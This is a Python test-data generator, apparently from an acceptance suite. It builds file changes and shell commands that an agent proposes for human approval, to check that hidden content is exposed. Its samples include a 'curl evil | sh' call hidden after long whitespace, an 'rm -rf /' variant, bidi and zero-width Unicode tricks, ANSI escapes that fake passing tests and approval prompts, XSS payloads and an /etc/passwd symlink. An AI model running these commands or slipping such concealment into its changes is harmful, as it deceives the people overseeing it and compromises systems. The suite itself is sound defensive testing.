"""Generated change sets that try to hide something, and the calls of an agent that propose them."""

import io
import tarfile
from dataclasses import dataclass, field
from random import Random
from typing import Any

from tests.acceptance.pending_approvals import Hired
from tests.acceptance.workspace import Workspace

# An agent whose changes need an approval. A command runs first, and its effect is what is asked about.
RULES = """
trust: guided
toolsets: [workspace]
tool_permissions:
  write: {allowed: true}
  bash: {allowed: true, approve: effect}
"""
HOSTILE = (
    "access = 'user\u202e \u2066// only admins\u2069 \u2066'",
    "pass\u200bword = '\u2060hunter2\ufeff'",
    "ok\U000e0072\U000e006d\U000e0020\U000e002d\U000e0072",
    "safe\r-removed line\r+added line",
    "\x1b[2K\x1b[1A\x1b[32mall tests passed\x1b[0m",
    "rm\u00a0-rf\u2003/  # no-break and em spaces",
    "a\u3164b\uffa0c\u115fd\u2800e = 1",
    "line\u2028separator\u2029and\u0085next\x0bvertical\x0cfeed",
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309 stacked",
    "@@ -1,3 +1,3 @@",
    "--- /etc/passwd",
    "+++ b/safe.txt",
    "\\ No newline at end of file",
    "Approve? [y]es, [n]o: y",
    "1 file changed, +0 -0",
    "⟦400 spaces⟧ → · \\u202e",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[bold red]markup[/bold red] [link=https://evil.example]here[/link]",
    "שלום = compute('א', 1000, 'ב')  # right to left",
    "مرحبا (admin) == false",
    "日本語のコメント、全角　スペース",
    "👩‍👩‍👧‍👦 family 🏳️‍🌈 flag ☠️ skull",
    "tail\ud7ff\ue000private",
)
_WORDS = (
    *("def", "return", "import", "value", "path", "=", "(", ")", "[", "]", "{", "}", ":", ",", ".", "0", "if", "else"),
    *("for", "in", "'text'", '"more"', "#", "note", "日本", "größer", "😀"),
)


@dataclass(frozen=True)
class ChangeSet:
    """Files before, and a call that changes them. ``archive`` has what a command unpacks."""

    tool: str
    arguments: dict[str, Any]
    before: dict[str, bytes] = field(default_factory=dict)
    archive: bytes | None = None
    name: str = ""

    def propose(self, workspace: Workspace, agent: Hired) -> str:
        """Make the call, which waits for an approval. Return the id of its pause."""
        for path, content in self.before.items():
            workspace.put_file(path, content)
        if self.archive is not None:
            workspace.put_file(f"/{self.name}.tar", self.archive)
        return str(agent.asks(self.tool, **self.arguments)["pause_id"])


def change_set(seed: int) -> ChangeSet:
    """Return the change set of a seed: by turns a new file, an edited file, and what a command does to many files."""
    random, name = Random(seed), f"set{seed:03}"
    path = f"/{name}/file.py"
    match seed % 4:
        case 0:
            return ChangeSet("write", {"path": path, "content": _text(random, 1, 12)})
        case 1:
            before = _text(random, 5, 60)
            arguments = {"path": path, "content": _changed(random, before), "overwrite": True}
            return ChangeSet("write", arguments, {path: before.encode()})
        case _:
            return _command(random, name)


def _command(random: Random, name: str) -> ChangeSet:
    """What a command does: it creates, changes, moves and deletes files, and changes modes, links and binary files."""
    texts = {f"{kind}.txt": _text(random, 3, 30) for kind in ("changed", "crlf", "moved", "deleted", "mode", "end")}
    before = {f"/{name}/{file}": text.encode() for file, text in texts.items()}
    before[f"/{name}/data.bin"] = bytes(random.randrange(256) for _ in range(100)) + b"\0"
    before[f"/{name}/latin.txt"] = b"caf\xe9\n"
    after: dict[str, bytes] = {
        "changed.txt": _changed(random, texts["changed.txt"]).encode(),
        "crlf.txt": texts["crlf.txt"].replace("\n", "\r\n").encode(),
        "end.txt": texts["end.txt"].removesuffix("\n").encode() + b" ",
        "new\u202etxt.py": _text(random, 1, 8).encode(),
        "empty": b"",
        "data.bin": bytes(random.randrange(256) for _ in range(200)) + b"\0",
        "latin.txt": b"caf\xff\n",
    }
    chosen = {file: body for file, body in after.items() if random.random() < 0.6}
    steps = [
        f"mv moved.txt 'away{random.randrange(10)}.txt'",
        "rm deleted.txt",
        "chmod 755 mode.txt",
        "ln -s /etc/passwd link",
        "rm changed.txt && ln -s file.txt changed.txt",
        "mkdir -m 700 folder",
    ]
    steps = [step for step in steps if random.random() < 0.5] or steps[:1]
    if any("ln -s file.txt" in step for step in steps):
        chosen.pop("changed.txt", None)
    command = "\n".join([f"cd {name} # unpack", f"tar -xf ../{name}.tar", *steps])
    return ChangeSet("bash", {"command": command}, before, _archive(chosen), name)


def _archive(files: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for file, body in files.items():
            entry = tarfile.TarInfo(file)
            entry.size = len(body)
            archive.addfile(entry, io.BytesIO(body))
    return packed.getvalue()


def _text(random: Random, fewest: int, most: int) -> str:
    return "\n".join(_line(random) for _ in range(random.randint(fewest, most))) + random.choice(["\n", "\n", ""])


def _changed(random: Random, text: str) -> str:
    """Change, remove and add lines in several places."""
    lines = []
    for line in text.split("\n"):
        roll = random.random()
        if roll < 0.15:
            lines.append(line[: len(line) // 2] + random.choice(HOSTILE) + line[len(line) // 2 :])
        elif roll < 0.25:
            lines += [line, _line(random)]
        elif roll > 0.1 + 0.25:
            lines.append(line)
    return "\n".join([*lines, _line(random)])


def _line(random: Random) -> str:
    match random.randrange(12):
        case 0:
            return " ".join(random.choices(_WORDS, k=random.randint(100, 700)))[:4_000]
        case 1:
            return random.choice("x日─") * random.randint(100, 4_000)
        case 2:
            return "print('hello')" + " " * random.randint(30, 900) + "; import os; os.system('curl evil | sh')"
        case 3:
            return "\t" * random.randint(1, 60) + "return\tvalue" + " " * random.randint(0, 5)
        case 4:
            return " ".join(random.choices(_WORDS, k=5)) + random.choice(["\r", " \r", "   ", "\t"])
        case 5 | 6:
            return random.choice(HOSTILE)
        case 7:
            return "".join(random.choices([*"ab \t{}\\\"'", "\u202e", "\u200b", "\x07", "日", "😀", "é"], k=80))
        case 8:
            return ""
        case _:
            return "    " * random.randrange(4) + " ".join(random.choices(_WORDS, k=random.randint(1, 15)))
